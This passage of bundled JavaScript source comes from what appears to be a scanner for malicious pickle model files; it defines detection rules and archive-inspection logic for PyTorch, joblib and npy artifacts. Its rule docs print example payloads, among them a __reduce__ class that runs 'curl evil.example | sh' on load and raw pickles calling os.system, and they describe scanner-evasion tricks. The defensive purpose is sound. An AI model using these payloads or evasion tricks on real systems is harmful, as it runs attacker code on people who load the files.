    fixHint: "Do not load this file; re-export it as safetensors, or load with torch.load(..., weights_only=True).",
    vulnerableExample: [
      "class Payload:",
      "    def __reduce__(self):",
      '        return (os.system, ("curl evil.example | sh",))',
      "",
      'torch.save({"model": Payload()}, "model.pt")   # loading model.pt runs the command'
    ].join("\n"),
    faq: [
      {
        question: "Could the call be harmless?",
        answer: "Only if the arguments are; the policy flags the capability. A legitimate model never needs to call os.system or exec."
      }
    ]
  }
});
var PICKLE_ARTIFACT_DANGEROUS_IMPORT = artifactRule({
  id: "PICKLE-ARTIFACT-002",
  name: "Pickle Artifact Imports a Dangerous Global",
  severity: "high",
  confidence: "medium",
  precision: "high",
  tags: ["code-execution"],
  similar: ["PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A pickle inside this file imports a dangerous global without visibly calling it.",
    description: "`GLOBAL`/`STACK_GLOBAL` import any attribute of any module while loading. A denylisted global (for example `os.system` or `builtins.getattr`) is referenced here although no direct call was seen; it may be called indirectly (through a memo, a container or a later `BUILD`), which symbolic analysis cannot always follow.",
    securityImplications: "Importing a module can itself run code (module import side effects), and an imported callable is one opcode away from being invoked. Treat the file as untrusted.",
    howToFix: "Do not load the file from untrusted sources. Re-create the artifact from trusted code, or load it with a restricted unpickler (`find_class` allowlist) or `torch.load(weights_only=True)`.",
    fixHint: "Treat the file as untrusted; load it only with an allowlisting unpickler.",
    vulnerableExample: ["# protocol 0 pickle that imports os.system", "cos\\nsystem\\n(S'id'\\ntR."].join("\n")
  }
});
var PICKLE_ARTIFACT_DYNAMIC_GLOBAL = artifactRule({
  id: "PICKLE-ARTIFACT-003",
  name: "Pickle Artifact Uses an Unresolvable or Self-Modifying Global",
  severity: "critical",
  confidence: "medium",
  precision: "high",
  tags: ["obfuscation", "code-execution"],
  similar: ["PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A pickle builds the name of the global it imports at load time, uses the copyreg extension registry, or rewrites a module.",
    description: "`STACK_GLOBAL` with operands that are not constant strings (for example the result of a call), `EXT1/EXT2/EXT4` codes resolved through the process's copyreg registry, and `BUILD` applied to a module or function object (overwriting its attributes) all hide what will really run. Scanners that match names cannot see through them, which is why attackers use them.",
    securityImplications: "The real target cannot be known statically; legitimate serializers never produce these shapes in model files, so they indicate an attempt to evade scanning and execute code.",
    howToFix: "Do not load the file. Regenerate the artifact from trusted code and store weights in safetensors.",
    fixHint: "Obfuscated pickle: do not load it.",
    vulnerableExample: [
      "# STACK_GLOBAL whose module name is computed by a call",
      "\\x80\\x04 ... builtins getattr ... REDUCE ... STACK_GLOBAL ... REDUCE"
    ].join("\n")
  }
});
var PICKLE_ARTIFACT_UNKNOWN_GLOBAL = artifactRule({
  id: "PICKLE-ARTIFACT-004",
  name: "Pickle Artifact References a Global Outside the Allowlist",
  severity: "medium",
  confidence: "medium",
  precision: "medium",
  tags: ["allowlist", "policy"],
  similar: ["PICKLE-ARTIFACT-002"],
  docs: {
    summary: "In allowlist mode, a pickle references a global that is neither built in to the allowlist nor allowed by configuration.",
    description: "The allowlist policy accepts only globals a tensor/array checkpoint needs (PyTorch's weights-only set, NumPy array reconstruction, plain containers) plus `--pickle-allow` entries. Anything else is reported so that a reviewer decides whether it is expected.",
    securityImplications: "An unexpected class can run code through its `__reduce__`, `__setstate__` or constructor. Unknown is not proven malicious, but it widens what loading the file can do.",
    howToFix: "If the class is expected and trusted, allow it (`--pickle-allow module.Name`, or `module.*`). Otherwise remove it from the artifact, e.g. save only a `state_dict` of tensors.",
    fixHint: "Review the global; allow it with --pickle-allow if trusted, or save only tensors.",
    vulnerableExample: ['torch.save(MyModel(), "model.pt")   # pickles mypackage.models.MyModel'].join("\n"),
    safeExample: ['torch.save(model.state_dict(), "model.pt")   # tensors and OrderedDict only'].join("\n")
  }
});
var PICKLE_ARTIFACT_MALFORMED = artifactRule({
  id: "PICKLE-ARTIFACT-005",
  name: "Malformed Pickle After Importing Globals",
  severity: "high",
  confidence: "medium",
  precision: "medium",
  tags: ["evasion"],
  similar: ["PICKLE-ARTIFACT-006"],
  docs: {
    summary: "A pickle imports globals and then breaks (bad opcode, truncated data, stack misuse).",
    description: "Python's unpickler executes opcodes as it reads them, so everything before the error has already run when the load fails. Some scanners give up on a parse error and report the file as clean; attackers exploit that by appending garbage after the payload (the 'broken pickle' trick).",
    securityImplications: "The payload before the break executes on load even though the load ultimately raises an exception.",
    howToFix: "Do not load the file. A legitimate serializer never writes a malformed stream.",
    fixHint: "Broken pickle with globals: do not load it.",
    vulnerableExample: ["cos\\nsystem\\n(S'id'\\ntR\\xff\\xff  # payload, then invalid opcodes"].join("\n")
  }
});
var PICKLE_ARTIFACT_CONTAINER_TRICK = artifactRule({
  id: "PICKLE-ARTIFACT-006",
  name: "Artifact Container Is Inconsistent",
  severity: "high",
  confidence: "high",
  precision: "high",
  tags: ["evasion", "zip"],
  similar: ["PICKLE-ARTIFACT-005"],
  docs: {
    summary: "The archive's own metadata disagrees with itself (zip central vs local names or methods, duplicate member names).",
    description: "Zip readers differ in which header they trust: some use the central directory, some stream local headers, and duplicate names resolve to the first or the last entry. A member named `data.pkl` in one place and something harmless in another lets a malicious pickle pass a scanner that reads one view while the loader reads the other.",
    securityImplications: "A benign-looking archive can carry a payload that only some readers see; it indicates deliberate scanner evasion.",
    howToFix: "Reject the file and re-create the archive with a standard tool (e.g. `torch.save`, `zipfile`).",
    fixHint: "Inconsistent archive metadata: re-create the archive from trusted sources.",
    vulnerableExample: [
      "# central directory: archive/data.pkl   local header: archive/version",
      "# both point at a pickle that calls os.system"
    ].join("\n")
  }
});
var PICKLE_ARTIFACT_UNINSPECTABLE = artifactRule({
  id: "PICKLE-ARTIFACT-007",
  name: "Artifact Archive Cannot Be Inspected",
  severity: "medium",
  confidence: "low",
  precision: "low",
  tags: ["coverage"],
  similar: [],
  docs: {
    summary: "The file is an archive format (7z, RAR, zstd, LZ4, or an unsupported zip method) that Pathfinder cannot look inside.",
    description: "Models are sometimes shipped inside archives that are extracted before loading. Pathfinder reads zip, tar, gzip, bzip2, xz and lzma itself; for other formats it cannot tell whether a pickle is inside, so it says so instead of reporting the file as clean.",
    securityImplications: "Contents are unverified: a malicious pickle inside would not be detected.",
    howToFix: "Extract the archive and scan the extracted files, or ship the artifact as zip/tar or safetensors.",
    fixHint: "Extract the archive and scan its contents.",
    vulnerableExample: ["model.7z  ->  model.pkl (not inspected)"].join("\n"),
    safeExample: ["pathfinder scan extracted/   # scan the unpacked files instead"].join("\n")
  }
});
var ARTIFACT_RULES = [
  PICKLE_ARTIFACT_DANGEROUS_CALL,
  PICKLE_ARTIFACT_DANGEROUS_IMPORT,
  PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
  PICKLE_ARTIFACT_MALFORMED,
  PICKLE_ARTIFACT_CONTAINER_TRICK,
  PICKLE_ARTIFACT_UNINSPECTABLE
];
var RULE_BY_KIND = {
  "dangerous-call": PICKLE_ARTIFACT_DANGEROUS_CALL,
  "dangerous-import": PICKLE_ARTIFACT_DANGEROUS_IMPORT,
  "dynamic-global": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  "extension-code": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  "module-mutation": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  "unknown-global": PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
  malformed: PICKLE_ARTIFACT_MALFORMED,
  "container-mismatch": PICKLE_ARTIFACT_CONTAINER_TRICK,
  uninspectable: PICKLE_ARTIFACT_UNINSPECTABLE
};
function ruleForIssue(issue) {
  if (issue.kind !== "nested-pickle") return RULE_BY_KIND[issue.kind];
  if (issue.severity === "critical") return PICKLE_ARTIFACT_DANGEROUS_CALL;
  if (issue.severity === "high") return PICKLE_ARTIFACT_DANGEROUS_IMPORT;
  return PICKLE_ARTIFACT_UNKNOWN_GLOBAL;
}

// src/artifacts/scan.ts
var HEAD_BYTES = 64 * 1024 + 1;
var MAX_ZIP_ENTRIES = 1e5;
var MAX_TAR_ENTRIES = 1e5;
var MAX_STACKED_PICKLES = 64;
var MAX_WORK_ITEMS = 1e4;
var TORCH_PICKLE = /(^|\/)data\.pkl$/;
var TORCH_TENSOR = /(^|\/)data\/\d+$/;
var LEGACY_TAR_MEMBERS = /* @__PURE__ */ new Set(["sys_info", "pickle", "storages", "tensors"]);
var ZIP_METHODS = /* @__PURE__ */ new Map([
  [METHOD_STORED, "stored"],
  [METHOD_DEFLATE, "deflate"],
  [METHOD_BZIP2, "bz2"],
  [METHOD_LZMA, "lzma"]
]);
async function scanArtifact(source, relPath, options = {}) {
  const scan = new ArtifactScan(relPath, {
    ...DEFAULT_PICKLE_OPTIONS,
    ...options,
    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options.limits }
  });
  await scan.run(source);
  return scan.result();
}
var ArtifactScan = class {
  constructor(relPath, options) {
    this.relPath = relPath;
    this.options = options;
    this.budget = options.limits.maxDecompressedBytes;
  }
  relPath;
  options;
  layout = [];
  analyses = [];
  errors = [];
  issues = [];
  queue = [];
  traits = /* @__PURE__ */ new Set();
  baseKind = "unknown";
  budget;
  budgetWarned = false;
  async run(source) {
    this.queue.push({ source, origin: 0, depth: 0 });
    let processed = 0;
    while (this.queue.length > 0) {
      const item = this.queue.shift();
      if (++processed > MAX_WORK_ITEMS) {
        this.warn(`more than ${MAX_WORK_ITEMS} nested pieces; the rest were not inspected`);
        break;
      }
      try {
        await this.inspect(item);
      } catch (error) {
        this.warn(`could not inspect: ${error instanceof Error ? error.message : String(error)}`, item.member);
      }
    }
  }
  result() {
    return {
      kind: this.kind(),
      layout: this.layout,
      analyses: this.analyses,
      findings: this.findings(),
      errors: this.errors
    };
  }
  kind() {
    if (this.traits.has("torch-legacy")) return "torch-legacy";
    if (this.traits.has("joblib")) return "joblib";
    if (this.baseKind === "zip" && this.traits.has("torch-zip")) return "torch-zip";
    if (this.baseKind === "zip" && this.traits.has("npz")) return "npz";
    if (this.baseKind === "pickle" && this.traits.has("zip")) return "pickle+zip";
    return this.baseKind;
  }
  warn(message15, member) {
    this.errors.push({
      file: this.relPath,
      kind: "artifact",
      message: member ? `${member}: ${message15}` : message15,
      level: "warning"
    });
  }
  addIssue(issue, member, baseOffset, from) {
    this.issues.push({ issue, ...member !== void 0 ? { member } : {}, baseOffset, ...from ? { from } : {} });
  }
  async inspect(item) {
    if (item.depth > this.options.limits.maxNesting) {
      this.warn(`containers nested deeper than ${this.options.limits.maxNesting}; not inspected`, item.member);
      return;
    }
    const head = await readRange(item.source, 0, HEAD_BYTES);
    if (head.length === 0) {
      if (item.depth === 0) this.warn("file is empty");
      return;
    }
    const format = sniffFormat(head);
    const pickleLike = format === "unknown" && (item.expectPickle === true || looksLikePickle(head));
    if (item.depth === 0) this.baseKind = pickleLike ? "pickle" : format;
    switch (format) {
      case "npy":
        return this.inspectNpy(item);
      case "zip":
        await this.inspectZip(item, 0);
        return;
      case "tar":
        return this.inspectTar(item);
      case "gzip":
      case "zlib":
      case "bz2":
      case "xz":
      case "lzma":
        return this.inspectCompressed(item, format, item.source);
      case "joblib-zfile":
        this.traits.add("joblib");
        return this.inspectCompressed(item, "zlib", sliceSource(item.source, 21, item.source.size - 21));
      case "7z":
      case "rar":
      case "zstd":
      case "lz4":
        return this.uninspectable(item, format);
      case "unknown":
        if (pickleLike) return this.inspectPickles(item);
        if (await this.inspectZip(item, -1)) return;
        if (item.depth === 0) this.warn("content is not a pickle or a known container; not inspected");
    }
  }
  uninspectable(item, format) {
    this.layout.push({
      name: item.member ?? `[${format}]`,
      container: format,
      offset: item.origin,
      size: item.source.size,
      compressedSize: item.source.size,
      method: format,
      role: "other"
    });
    this.addIssue(
      {
        kind: "uninspectable",
        severity: "medium",
        message: `${format} archive: Pathfinder cannot inspect its contents, which may include pickles`
      },
      item.member,
      item.origin
    );
  }
  // ---- compression -------------------------------------------------------------------------------
  async decompressBounded(format, input, member, want) {
    const result2 = await decompress(format, input, {
      limit: Math.max(0, this.budget),
      ...want !== void 0 ? { want } : {}
    });
    if (want === void 0 || result2.limitReached) this.budget -= result2.bytes.length;
    if (result2.limitReached && !this.budgetWarned) {
      this.budgetWarned = true;
      this.warn(
        `decompression stopped at the ${this.options.limits.maxDecompressedBytes}-byte limit (possible zip bomb); the rest was not inspected`,
        member
      );
    }
    if (result2.error) this.warn(`${format} data is corrupt or truncated: ${result2.error}`, member);
    return result2;
  }
  async inspectCompressed(item, format, input) {
    const label = `${item.member ?? ""}[${format}]`;
    if (this.budget <= 0) {
      this.warn("decompression limit already reached; not inspected", label);
      return;
    }
    const head = await this.decompressBounded(format, input, label, HEAD_BYTES);
    const pickle = item.expectPickle === true || looksLikePickle(head.bytes);
    const row = {
      name: label,
      container: format,
      offset: item.origin,
      size: head.bytes.length,
      compressedSize: input.size,
      method: format,
      role: pickle ? "pickle" : "other"
    };
    this.layout.push(row);
    if (!pickle && sniffFormat(head.bytes) === "unknown") return;
    const complete = head.bytes.length < HEAD_BYTES || head.error !== void 0 || head.limitReached;
    const result2 = complete ? head : await this.decompressBounded(format, input, label);
    row.size = result2.bytes.length;
    if (result2.bytes.length === 0) return;
    this.queue.push({ source: memorySource(result2.bytes), member: label, origin: 0, depth: item.depth + 1 });
  }
  // ---- .npy --------------------------------------------------------------------------------------
  async inspectNpy(item) {
    const parsed = await readNpyHeader(item.source);
    if (!parsed.ok) {
      this.warn(parsed.error, item.member);
      return;
    }
    const { header } = parsed;
    const bodySize = item.source.size - header.dataOffset;
    this.layout.push({
      name: `${item.member ?? ""}[npy ${header.descr} ${JSON.stringify(header.shape)}]`,
      container: "npy",
      offset: item.origin + header.dataOffset,
      size: bodySize,
      compressedSize: bodySize,
      method: "raw",
      role: header.hasObject ? "pickle" : "tensor-data"
    });
    if (!header.hasObject) return;
    this.queue.push({
      source: sliceSource(item.source, header.dataOffset, bodySize),
      ...item.member !== void 0 ? { member: item.member } : {},
      origin: item.origin + header.dataOffset,
      depth: item.depth + 1,
      expectPickle: true
    });
  }
  // ---- zip ---------------------------------------------------------------------------------------
  /** `start` >= 0: the caller saw a local header there; -1: only look for an end record. */
  async inspectZip(item, start2) {
    let directory = await readZipDirectory(item.source, { maxEntries: MAX_ZIP_ENTRIES });
    if (!directory && start2 >= 0) directory = await walkLocalHeaders(item.source, start2, { maxEntries: MAX_ZIP_ENTRIES });
    if (!directory || directory.entries.length === 0 && !directory.fromCentralDirectory) return false;
    if (item.depth === 0 && this.baseKind === "unknown") this.baseKind = "zip";
    this.traits.add("zip");
    if (directory.archiveStart > 0 && this.baseKind !== "pickle") {
      this.warn(`zip archive starts at offset ${directory.archiveStart}: data was prepended to it`, item.member);
    }
    for (const warning of directory.warnings) this.warn(warning, item.member);
    for (const trick of directory.tricks) {
      this.addIssue(
        { kind: "container-mismatch", severity: "high", message: trick.message },
        join2(item.member, trick.member),
        0
      );
    }
    const isTorch = directory.entries.some((e) => TORCH_PICKLE.test(e.name));
    if (isTorch) this.traits.add("torch-zip");
    if (directory.entries.length > 0 && directory.entries.every((e) => e.name.endsWith(".npy"))) this.traits.add("npz");
    for (const entry of directory.entries) {
      const member = join2(item.member, entry.name);
      const method = ZIP_METHODS.get(entry.method) ?? `method ${entry.method}`;
      const row = {
        name: member,
        container: "zip",
        offset: entry.dataOffset,
        size: entry.uncompressedSize,
        compressedSize: entry.compressedSize,
        method,
        role: "other"
      };
      this.layout.push(row);
      if (entry.dataOffset < 0) continue;
      if (isTorch && TORCH_TENSOR.test(entry.name)) {
        row.role = "tensor-data";
        continue;
      }
      let compressed = sliceSource(item.source, entry.dataOffset, entry.compressedSize);
      let head;
      let codec = null;
      if (entry.method === METHOD_LZMA) {
        const alone = entry.compressedSize <= this.budget ? zipLzmaAsAlone(await readRange(compressed, 0, entry.compressedSize), entry.uncompressedSize) : null;
        if (!alone) {
          this.warn("LZMA member is malformed or larger than the decompression limit; not inspected", member);
          continue;
        }
        compressed = memorySource(alone);
      }
      if (entry.method === METHOD_STORED) {
        head = await readRange(compressed, 0, HEAD_BYTES);
      } else if (entry.method === METHOD_DEFLATE || entry.method === METHOD_BZIP2 || entry.method === METHOD_LZMA) {
        codec = entry.method === METHOD_DEFLATE ? "deflate-raw" : entry.method === METHOD_BZIP2 ? "bz2" : "lzma";
        head = (await this.decompressBounded(codec, compressed, member, HEAD_BYTES)).bytes;
      } else {
        this.addIssue(
          {
            kind: "uninspectable",
            severity: "medium",
            message: `zip member ${entry.name} uses compression method ${entry.method}, which Pathfinder cannot decode`
          },
          member,
          0
        );
        continue;
      }
      const expectPickle = TORCH_PICKLE.test(entry.name) || /\.(pkl|pickle)$/i.test(entry.name);
      const pickleLike = looksLikePickle(head);
      const nested = sniffFormat(head) !== "unknown";
      if (pickleLike || expectPickle) row.role = "pickle";
      if (!pickleLike && !expectPickle && !nested) continue;
      let memberSource = compressed;
      if (codec) {
        if (this.budget <= 0) {
          this.warn("decompression limit reached; member not inspected", member);
          continue;
        }
        const full = await this.decompressBounded(codec, compressed, member);
        row.size = full.bytes.length;
        memberSource = memorySource(full.bytes);
      }
      this.queue.push({ source: memberSource, member, origin: 0, depth: item.depth + 1, expectPickle });
    }
    return true;
  }
  // ---- tar (legacy PyTorch) ----------------------------------------------------------------------
  async inspectTar(item) {
    const listing = await listTar(item.source, MAX_TAR_ENTRIES);
    for (const warning of listing.warnings) this.warn(warning, item.member);
    const files = listing.entries.filter((e) => e.type === "0" || e.type === "7");
    const legacy = files.some((e) => e.name === "pickle") && files.some((e) => e.name === "sys_info");
    if (legacy) this.traits.add("torch-legacy");
    for (const entry of files) {
      const member = join2(item.member, entry.name);
      const source = sliceSource(item.source, entry.dataOffset, entry.size);
      const row = {
        name: member,
        container: "tar",
        offset: entry.dataOffset,
        size: entry.size,
        compressedSize: entry.size,
        method: "stored",
        role: "other"
      };
      this.layout.push(row);
      if (legacy && (entry.name === "storages" || entry.name === "tensors")) {
        row.role = "pickle";
        const located = entry.name === "storages" ? await locateLegacyStorages(source, this.options.limits.maxOpcodes) : await locateLegacyTensors(source, this.options.limits.maxOpcodes);
        await this.analyseRanges(source, member, located);
        continue;
      }
      const head = await readRange(source, 0, HEAD_BYTES);
      const expectPickle = legacy && LEGACY_TAR_MEMBERS.has(entry.name);
      const pickleLike = looksLikePickle(head);
      if (pickleLike || expectPickle) row.role = "pickle";
      if (pickleLike || expectPickle || sniffFormat(head) !== "unknown") {
        this.queue.push({ source, member, origin: 0, depth: item.depth + 1, expectPickle });
      }
    }
  }
  async analyseRanges(source, member, located) {
    for (const warning of located.warnings) this.warn(warning, member);
    for (const range of located.pickles) {
      const bytes = await this.readPickleBytes(source, range.start, range.end - range.start, member);
      this.record(analyzePickle(bytes, this.options), member, range.start);
    }
  }
  // ---- pickles -----------------------------------------------------------------------------------
  /** Analyses the pickle at the start of the item and every pickle stacked after it, then what follows. */
  async inspectPickles(item) {
    const source = item.source;
    let position = 0;
    let legacy = false;
    for (let count = 0; count < MAX_STACKED_PICKLES && position < source.size; count++) {
      if (count > 0 && !looksLikePickle(await readRange(source, position, HEAD_BYTES))) break;
      const end = await this.analysePickleAt(item, position);
      if (count === 0 && isLegacyTorchMagic(await readRange(source, 0, 32))) {
        legacy = true;
        this.traits.add("torch-legacy");
      }
      if (end === null || end <= position) return;
      position = end;
      if (legacy && count + 1 === LEGACY_STACKED_PICKLES) {
        this.layout.push({
          name: `${item.member ?? ""}[storage data]`,
          container: "torch-legacy",
          offset: item.origin + position,
          size: source.size - position,
          compressedSize: source.size - position,
          method: "raw",
          role: "tensor-data"
        });
        return;
      }
    }
    if (position >= source.size) return;
    await this.inspectTail(item, position);
  }
  /** Bytes after the last pickle: a zip (polyglot) or another container; otherwise just reported. */
  async inspectTail(item, position) {
    const head = await readRange(item.source, position, HEAD_BYTES);
    if (await this.inspectZip(item, startsWith(head, ascii("PK")) ? position : -1)) return;
    if (sniffFormat(head) !== "unknown") {
      this.queue.push({
        source: sliceSource(item.source, position, item.source.size - position),
        ...item.member !== void 0 ? { member: item.member } : {},
        origin: item.origin + position,
        depth: item.depth + 1
      });
      return;
    }
    this.warn(`${item.source.size - position} bytes after the pickle at offset ${item.origin + position} were not inspected`, item.member);
  }
  /** Analyses one pickle stream at `position`; returns the offset just past it, or null if it did not end. */
  async analysePickleAt(item, position) {
    const end = await this.analyseStreamAt(item, position);
    if (item.depth === 0 || position > 0) {
      const size = (end ?? item.source.size) - position;
      this.layout.push({
        name: `${item.member ?? ""}[pickle @${item.origin + position}]`,
        container: "pickle",
        offset: item.origin + position,
        size,
        compressedSize: size,
        method: "raw",
        role: "pickle"
      });
    }
    return end;
  }
  async analyseStreamAt(item, position) {
    const { source, member } = item;
    const framing = await locateJoblibArrays(source, position, this.options.limits.maxOpcodes);
    if (framing.end !== null && (framing.arrays.length > 0 || framing.largeStrings.length > 0)) {
      if (framing.arrays.length > 0) this.traits.add("joblib");
      await this.analyseWithout(item, position, framing.end, framing.arrays, framing.largeStrings);
      return framing.end;
    }
    if (framing.arrays.length > 0 && framing.error) {
      this.warn(`joblib array data could not be located (${framing.error.message}); analysing the stream as is`, member);
    }
    const length = framing.end !== null ? framing.end - position : source.size - position;
    const bytes = await this.readPickleBytes(source, position, length, member);
    const analysis = analyzePickle(bytes, this.options);
    this.record(analysis, member, item.origin + position);
    if (framing.end !== null) return framing.end;
    return analysis.bytesConsumed > 0 ? position + analysis.bytesConsumed : null;
  }
  /**
   * Analyses the pickle [start, end) with raw data cut out, so that a multi-GB file is never read whole:
   * joblib arrays (bytes between opcodes) are removed, large string arguments keep their opcode with the
   * length rewritten to 0. Offsets in the analysis are mapped back to the original bytes. joblib object
   * arrays are analysed as the separate pickles they are.
   */
  async analyseWithout(item, start2, end, arrays, strings) {
    const { source, member } = item;
    const cuts = [
      ...arrays.map((a) => ({ offset: a.offset, length: a.length })),
      ...strings.map((s) => ({ offset: s.payload, length: s.length, zero: { at: s.lengthField, size: s.lengthSize } }))
    ].sort((a, b) => a.offset - b.offset);
    for (const array of arrays) {
      this.layout.push({
        name: `${member ?? ""}[array ${array.dtype} ${JSON.stringify(array.shape)}]`,
        container: "joblib",
        offset: item.origin + array.offset,
        size: array.length,
        compressedSize: array.length,
        method: "raw",
        role: array.objectPickle ? "pickle" : "tensor-data"
      });
    }
    for (const string of strings) {
      this.layout.push({
        name: `${member ?? ""}[inline data @${item.origin + string.payload}]`,
        container: "pickle",
        offset: item.origin + string.payload,
        size: string.length,
        compressedSize: string.length,
        method: "raw",
        role: "tensor-data"
      });
    }
    const kept = [];
    const chunks = [];
    let cursor = start2;
    let spliced = 0;
    const keep = async (to, zero) => {
      let bytes = await this.readPickleBytes(source, cursor, to - cursor, member);
      if (zero) {
        bytes = bytes.slice();
        bytes.fill(0, zero.at - cursor, zero.at - cursor + zero.size);
      }
      kept.push({ from: cursor, to, at: spliced });
      chunks.push(bytes);
      spliced += bytes.length;
    };
    for (const cut of cuts) {
      if (cut.offset < cursor) continue;
      await keep(cut.offset, cut.zero);
      cursor = cut.offset + cut.length;
    }
    await keep(end);
    const analysis = withoutArrayWrapperIssues(analyzePickle(concatBytes(chunks), this.options), arrays.length > 0);
    const toOriginal = (offset) => {
      let piece = kept[0];
      for (const candidate of kept) if (candidate.at <= offset) piece = candidate;
      return piece.from + (offset - piece.at) - start2;
    };
    this.record(remapOffsets(analysis, toOriginal), member, item.origin + start2);
    for (const array of arrays) {
      if (!array.objectPickle) continue;
      const bytes = await this.readPickleBytes(source, array.offset, array.length, member);
      this.record(analyzePickle(bytes, this.options), member, item.origin + array.offset);
    }
  }
  async readPickleBytes(source, offset, length, member) {
    const cap = this.options.limits.maxDecompressedBytes;
    if (length > cap) {
      this.warn(`pickle of ${length} bytes exceeds the ${cap}-byte limit; only its start was analysed`, member);
      return readRange(source, offset, cap);
    }
    return readRange(source, offset, length);
  }
  record(analysis, member, baseOffset) {
    this.analyses.push({ ...member !== void 0 ? { member } : {}, baseOffset, analysis });
    if (analysis.error && analysis.isPickle) {
      this.warn(`pickle analysis stopped at offset ${baseOffset + analysis.error.offset}: ${analysis.error.message}`, member);
    }
    const pending = [{ analysis, base: baseOffset }];
    while (pending.length > 0) {
      const { analysis: current, base, nestedIn } = pending.pop();
      const hasNested = current.nested.length > 0;
      for (const issue of current.issues) {
        if (issue.kind === "nested-pickle" && hasNested) continue;
        const located = nestedIn === void 0 ? { ...issue, ...issue.offset !== void 0 ? { offset: base + issue.offset } : {} } : { ...issue, offset: nestedIn, message: `${issue.message} (in a pickle nested at offset ${nestedIn})` };
        this.addIssue(located, member, 0, nestedIn === void 0 ? { analysis: current, base } : void 0);
      }
      for (const inner of current.nested) {
        pending.push({ analysis: inner.analysis, base: 0, nestedIn: nestedIn ?? base + inner.offset });
      }
    }
  }
  // ---- findings ----------------------------------------------------------------------------------
  findings() {
    const findings = [];
    const seen = /* @__PURE__ */ new Set();
    for (const { issue, member, baseOffset, from } of this.issues) {
      const rule = ruleForIssue(issue);
      const fingerprint = stableHash([rule.id, this.relPath, member ?? "", issue.global ?? issue.message].join("\0"));
      if (seen.has(fingerprint)) continue;
      seen.add(fingerprint);
      const offset = issue.offset ?? baseOffset;
      findings.push({
        ruleId: rule.id,
        ruleName: rule.name,
        message: member ? `${issue.message} (in ${member})` : issue.message,
        severity: issue.severity,
        confidence: rule.confidence,
        location: {
          file: this.relPath,
          line: 1,
          column: 1,
          endLine: 1,
          endColumn: 1,
          snippet: opcodeListing(issue, offset, from),
          ...member !== void 0 ? { member } : {},
          offset
        },
        cwe: rule.cwe,
        owasp: rule.owasp,
        fingerprint
      });
    }
    return findings;
  }
};
var MAX_LISTING_LINES = 8;
function opcodeListing(issue, offset, from) {
  const lines = [];
  if (from && issue.global) {
    const { analysis, base } = from;
    const rows = [
      ...analysis.imports.filter((i2) => i2.normalized === issue.global).map((i2) => [i2.offset, `${i2.opcode} ${i2.normalized}`]),
      ...analysis.calls.filter((c) => c.callee === issue.global).map((c) => [c.offset, `${c.opcode} ${c.callee}(${c.args})`])
    ];
    rows.sort((a, b) => a[0] - b[0]);
    for (const [at, text] of rows.slice(0, MAX_LISTING_LINES)) lines.push(`@${base + at}  ${text}`);
  }
  if (lines.length === 0) lines.push(`@${offset}  ${issue.global ?? issue.kind}`);
  return lines.join("\n");
}
function join2(parent, child) {
  if (child === void 0) return parent;
  return parent ? `${parent}/${child}` : child;
}
function withoutArrayWrapperIssues(analysis, arraysLocated) {
  if (!arraysLocated) return analysis;
  const wrapper = /(^|\.)numpy_pickle\.NumpyArrayWrapper$/;
  return { ...analysis, issues: analysis.issues.filter((issue) => !(issue.global && wrapper.test(issue.global))) };
}
function remapOffsets(analysis, map) {
  return {
    ...analysis,
    imports: analysis.imports.map((i2) => ({ ...i2, offset: map(i2.offset) })),
    calls: analysis.calls.map((c) => ({ ...c, offset: map(c.offset) })),
    persistentIds: analysis.persistentIds.map((p) => ({ ...p, offset: map(p.offset) })),
    issues: analysis.issues.map((i2) => i2.offset === void 0 ? i2 : { ...i2, offset: map(i2.offset) }),
    nested: analysis.nested.map((n) => ({ ...n, offset: map(n.offset) })),
    ...analysis.error ? { error: { ...analysis.error, offset: map(analysis.error.offset) } } : {}
  };
}

// src/artifacts/index.ts
function isArtifactCandidate(relPath, head) {
  const lower = relPath.toLowerCase();
  if (ARTIFACT_EXTENSIONS.some((ext) => lower.endsWith(ext))) return true;
  if (head.length === 0) return false;
  const format = sniffFormat(head);
  if (format !== "unknown" && format !== "tar" && format !== "zlib") return true;
  return looksLikeStrongPickle(head);
}
function looksLikeStrongPickle(head) {
  return head[0] === 128 && head[1] !== void 0 && head[1] <= 5 && looksLikePickle(head);
}

// src/project/byte-source.ts
import { open } from "node:fs/promises";
var WHOLE_READ_LIMIT = 1024 * 1024;
async function openFileByteSource(path) {
  const handle2 = await open(path, "r");
  try {
    const { size } = await handle2.stat();
    if (size <= WHOLE_READ_LIMIT) {
      const bytes = await readWhole(handle2, size);
      await handle2.close();
      return {
        size: bytes.length,
        read: async (offset, length) => bytes.subarray(Math.max(0, offset), Math.max(0, offset) + Math.max(0, length)),
        close: async () => {
        }
      };
    }
    let closed = false;
    return {
      size,
      async read(offset, length) {
        const start2 = Math.max(0, Math.min(offset, size));
        const want = Math.max(0, Math.min(length, size - start2));
        const buffer = new Uint8Array(want);
        let got = 0;
        while (got < want) {
          const { bytesRead } = await handle2.read(buffer, got, want - got, start2 + got);
          if (bytesRead === 0) break;
          got += bytesRead;
        }
        return got === want ? buffer : buffer.subarray(0, got);
      },
      async close() {
        if (closed) return;
        closed = true;
        await handle2.close();
      }
    };
  } catch (error) {
    await handle2.close();
    throw error;
  }
}
async function readWhole(handle2, size) {
  const buffer = new Uint8Array(size);
  let got = 0;
  while (got < size) {
    const { bytesRead } = await handle2.read(buffer, got, size - got, got);
    if (bytesRead === 0) break;
    got += bytesRead;
  }
  return got === size ? buffer : buffer.subarray(0, got);
}

// src/project/artifacts.ts
var ARTIFACT_CONCURRENCY = 4;
async function scanArtifactFiles(files, pickle, onScanned) {
  const result2 = { findings: [], errors: [], scanned: 0 };
  let next = 0;
  const worker = async () => {
    for (let i2 = next++; i2 < files.length; i2 = next++) {
      const file = files[i2];
      let source;
      try {
        source = await openFileByteSource(file.absPath);
      } catch (e) {
        const err2 = e;
        result2.errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
        continue;
      }
      try {
        const head = await source.read(0, SNIFF_BYTES);
        if (!isArtifactCandidate(file.relPath, head)) continue;
        const scanned = await scanArtifact(source, file.relPath, pickle);
        result2.findings.push(...scanned.findings);
        result2.errors.push(...scanned.errors);
        result2.scanned++;
